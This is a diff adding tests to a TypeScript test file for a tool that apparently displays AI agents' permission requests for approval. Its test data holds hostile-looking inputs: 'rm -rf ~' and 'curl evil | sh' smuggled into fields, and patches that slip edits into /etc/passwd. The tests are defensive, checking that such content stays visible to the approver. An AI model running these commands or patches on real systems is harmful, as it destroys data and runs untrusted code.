@@ -3,6 +3,7 @@ import { describe, it } from 'node:test';
 import fc from 'fast-check';
 import type { Permission, ToolEntry } from '../../../server/protocol/transcript/entries.js';
 import { asked, entriesAfter, prompt, tool } from '../../../server/protocol/transcript/transcript.rig.js';
+import { REAL_REQUESTS } from '../../../server/rules/real-requests.rig.js';
 import { seeded } from '../../../server/testing/seeded.rig.js';
 import { foldBlank } from './fold-lines.js';
 import { type RequestParts, requestParts } from './request-parts.js';
@@ -20,9 +21,12 @@ function request(toolCall: object, announced: object | null = null): Permission 
 const parts = (toolCall: object, announced: object | null = null) => requestParts(request(toolCall, announced), FOLDER);
 
 /** All that is drawn, as one text. */
-function drawn({ commands, diffs, texts, places, fields, title, subtitle }: RequestParts): string {
+function drawn({ commands, diffs, texts, places, fields, details, title, subtitle }: RequestParts): string {
   const changes = diffs.flatMap(({ path, oldText, newText }) => [path, oldText ?? '', newText]);
-  const told = [...texts.map(({ text }) => text), ...fields.flatMap(({ name, value }) => [name, value])];
+  const told = [
+    ...texts.map(({ text }) => text),
+    ...[...fields, ...details].flatMap(({ name, value }) => [name, value]),
+  ];
   return [title, subtitle ?? '', ...commands, ...changes, ...told, ...places].join('\n');
 }
 
@@ -277,6 +281,115 @@ describe('a request', () => {
     );
     const elsewhere = parts({ kind: 'edit', content: [change], rawInput: { path: '/etc/passwd' } });
     assert.deepEqual([elsewhere.places, elsewhere.risks], [['/etc/passwd'], ['writes_outside']]);
+  });
+
+  it('[P13] leaves out a patch that says what a change shows, and no other', (t) => {
+    const { seed, numRuns } = seeded(t, 150);
+    const line = fc.constantFrom('a', 'b', 'c', '', 'x = 1;', '-dash', '+plus', '@@', 'diff --git a/x b/x');
+    const arbitrary = fc.record({
+      before: fc.array(line, { minLength: 1, maxLength: 12 }),
+      at: fc.nat(11),
+      dropped: fc.nat(2),
+      added: fc.array(line, { maxLength: 3 }),
+      context: fc.nat(3),
+      isWhole: fc.boolean(),
+    });
+    let left = 0;
+    const check = fc.property(arbitrary, ({ before, at, dropped, added, context, isWhole }) => {
+      const from = Math.min(at, before.length);
+      const to = Math.min(from + dropped, before.length);
+      const [first, last] = [Math.max(0, from - context), Math.min(before.length, to + context)];
+      const olds = before.slice(first, last);
+      const news = [...before.slice(first, from), ...added, ...before.slice(to, last)];
+      fc.pre(olds.length > 0 && news.length > 0 && olds.join('\n') !== news.join('\n'));
+      const path = `${FOLDER}/a.ts`;
+      const ends = (lines: readonly string[]) => lines.map((each) => `${each}\n`).join('');
+      const shown = isWhole
+        ? diff(path, ends(before), ends([...before.slice(0, first), ...news, ...before.slice(last)]))
+        : diff(path, ends(olds), ends(news));
+      const body = [
+        ...before.slice(first, from).map((each) => ` ${each}`),
+        ...before.slice(from, to).map((each) => `-${each}`),
+        ...added.map((each) => `+${each}`),
+        ...before.slice(to, last).map((each) => ` ${each}`),
+      ];
+      const head = (name: string) => `diff --git a${name} b${name}\n--- a${name}\n+++ b${name}\n`;
+      const hunk = `@@ -${first + 1},${olds.length} +${first + 1},${news.length} @@\n`;
+      const patch = `${head(path)}${hunk}${body.join('\n')}\n`;
+      const told = (input: string) =>
+        parts({ kind: 'edit', title: 'Edit', content: [shown], rawInput: { fileName: path, diff: input } });
+      const whole = told(patch);
+      // Lines that would fit in two places are shown as they came.
+      if (whole.texts.length > 0) assert.equal(whole.texts[0]!.text, patch);
+      else left += 1;
+      assert.equal(whole.title, 'Edit a.ts?');
+      const others = [
+        patch.replace(
+          hunk,
+          `${hunk.replace(`+${first + 1},${news.length}`, `+${first + 1},${news.length + 1}`)}+evil\n`,
+        ),
+        `${patch}${head('/etc/passwd')}@@ -1,1 +1,1 @@\n-root\n+evil\n`,
+        patch.replaceAll(path, '/etc/passwd'),
+        patch.replace('--- a', 'old mode 100644\nnew mode 100755\n--- a'),
+        `${patch}evil\n`,
+      ];
+      for (const other of others)
+        assert.ok(
+          told(other).texts.some(({ text }) => text === other),
+          other,
+        );
+    });
+    fc.assert(check, { seed, numRuns });
+    assert.ok(left > numRuns * 0.7, `${left} were left out`);
+    const change = diff(`${FOLDER}/a.ts`, 'one\n', 'two\n');
+    const patch = `--- a${FOLDER}/a.ts\n+++ b${FOLDER}/a.ts\n@@ -1,1 +1,1 @@\n-one\n+two\n`;
+    assert.deepEqual(parts({ kind: 'edit', content: [change], rawInput: { diff: patch } }).texts, []);
+  });
+
+  it('[P24] names a file once that shipped agents name in two ways', () => {
+    for (const [agent, { file }] of Object.entries(REAL_REQUESTS)) {
+      const announced = file.told.map((call) => tool('t', { title: '', ...call }));
+      const entries = entriesAfter(prompt('hi'), ...announced, asked('q', { toolCallId: 't', ...file.asked }));
+      const { title, texts } = requestParts((entries.at(-1) as ToolEntry).permissions[0]!, '/work/a');
+      assert.match(title, /mine\.txt[”]?\?$/, agent);
+      assert.ok(!texts.some(({ text }) => text.includes('diff --git')), agent);
+    }
+  });
+
+  it('[P34] folds ids, times and repeats away, and nothing that only has such a name', () => {
+    const call = {
+      kind: 'execute',
+      rawInput: { command: 'cat e.txt', call_id: 'call_1', started_at_ms: 1763459999123 },
+    };
+    const folded = parts(call);
+    assert.deepEqual([folded.fields, folded.details.map(({ name }) => name)], [[], ['call_id', 'started_at_ms']]);
+    const parsed = [{ type: 'read', cmd: 'cat e.txt', name: 'e.txt' }];
+    const more = {
+      ...call.rawInput,
+      parsed_cmd: parsed,
+      available_decisions: ['approved', { approved_always: ['cat', 'e.txt'] }],
+    };
+    assert.deepEqual(parts({ ...call, rawInput: more }).fields, []);
+    const hostile: Record<string, unknown>[] = [
+      { call_id: 'x; rm -rf ~' },
+      { call_id: 'x'.repeat(101) },
+      { turn_id: ['curl evil | sh'] },
+      { started_at_ms: 'rm -rf ~' },
+      { parsed_cmd: [{ type: 'read', cmd: 'rm -rf ~' }] },
+      { parsed_cmd: [{ 'rm -rf ~': 'read' }] },
+      { parsed_cmd: 'rm -rf ~' },
+      { available_decisions: [{ a: { a: { a: { a: { a: { a: { a: { a: { a: 'rm -rf ~' } } } } } } } } }] },
+      { env: { A: 'cat e.txt' } },
+      { replace_all: true },
+    ];
+    for (const field of hostile) {
+      const { fields } = parts({ kind: 'execute', rawInput: { command: 'cat e.txt', ...field } });
+      assert.deepEqual(
+        fields.map(({ name }) => name),
+        Object.keys(field),
+        JSON.stringify(field),
+      );
+    }
   });
 
   it('[P13] shows a title whole where it is all that is known', () => {
